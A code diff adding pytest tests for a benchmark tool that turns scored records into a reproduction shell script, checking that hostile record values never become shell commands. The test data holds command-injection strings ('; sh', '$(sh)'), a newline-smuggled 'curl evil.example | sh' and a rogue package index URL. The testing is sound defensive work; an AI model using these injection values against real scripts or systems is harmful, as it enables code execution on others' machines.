@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import shlex
+from typing import Any
+
 import pytest
 
 from tests.records.some_intensities import reaction_identity
@@ -94,3 +97,32 @@ def test_a_scored_file_is_scored_again() -> None:
     given = ("protocol=ucf101_ft", "predictions=my net.csv", "data.root=<data.root>")
     record = some_record(origin="scored", environment=None, given=given)
     assert script(record) == "tta-bench eval protocol=ucf101_ft 'predictions=my net.csv'"
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"packages": {"--index-url=http://evil/simple ": "1"}},
+        {"packages": {"torch": "2 --pre; sh"}},
+        {"suite_version": "1 $(sh)"},
+        {"device": "AMD\ncurl evil.example | sh\n#"},
+        {"plugins": (Plugin(name="a.py", version="1\nsh", sha256=None),)},
+    ],
+)
+def test_nothing_of_a_record_becomes_shell(changes: dict[str, Any]) -> None:
+    environment = some_environment().model_copy(update=changes)
+    record = some_record(environment=environment, given=("protocol=ucf101_ft", "--plugin=evil.py", "x;sh", "a b=$(sh)"))
+    lines = script(record).splitlines()
+    commands = [shlex.split(line) for line in lines if not line.startswith("#")]
+    assert [words[0] for words in commands] == ["pip", "tta-bench"]
+    assert not [word for word in commands[0][2:] if word.startswith("-") or " " in word]
+    assert not any(word.startswith("--plugin=") or "sh" in word.split("=")[0].split(";") for word in commands[1])
+
+
+def test_plugin_files_are_loaded_again() -> None:
+    plugins = (
+        Plugin(name="my_net.py", version=None, sha256="a" * 64),
+        Plugin(name="package", version="1", sha256=None),
+    )
+    record = some_record(environment=some_environment().model_copy(update={"plugins": plugins}))
+    assert script(record).splitlines()[-1].endswith(" --plugin my_net.py")
